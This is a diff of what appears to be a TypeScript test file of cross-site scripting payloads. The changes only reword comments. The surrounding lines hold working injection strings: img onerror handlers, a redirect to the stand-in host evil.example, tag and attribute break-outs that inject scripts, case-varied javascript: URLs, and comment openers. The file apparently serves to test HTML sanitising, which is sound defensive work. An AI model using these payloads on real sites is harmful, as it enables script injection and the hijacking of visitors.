@@ -1,9 +1,9 @@
-/** Stands for the number of a payload, by which the traps of a test tell which one it was. */
+/** Stands for the number of a payload, by which the traps of a test identify it. */
 const own = '§'
 const run = `window.hit(${own})`
 const host = `evil.example/${own}`
 
-/** Texts that take what follows them for something else, up to an end that never comes. They run nothing themselves. */
+/** Texts that swallow what follows them, up to an end that never comes. They run nothing themselves. */
 export const swallowing: readonly string[] = [
   '<!--',
   '<![CDATA[',
@@ -88,7 +88,7 @@ const elements: readonly string[] = [
   `<img src=x onerror="location='https://${host}'">`,
 ]
 
-/** What ends the place where it stands: a quoted or bare attribute, an element, a script, a style sheet, a comment. */
+/** Texts that end the place where they are: a quoted or bare attribute, an element, a script, a style sheet, a comment. */
 const ends: readonly string[] = [
   `"><img src=x onerror=${run}>`,
   `"><img src=x onerror=alert(${own})>`,
@@ -119,7 +119,7 @@ const ends: readonly string[] = [
   `</button><script>${run}</script>`,
 ]
 
-/** Addresses, which become links where they are taken for one. */
+/** Addresses, which become links where they are taken for links. */
 const addresses: readonly string[] = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
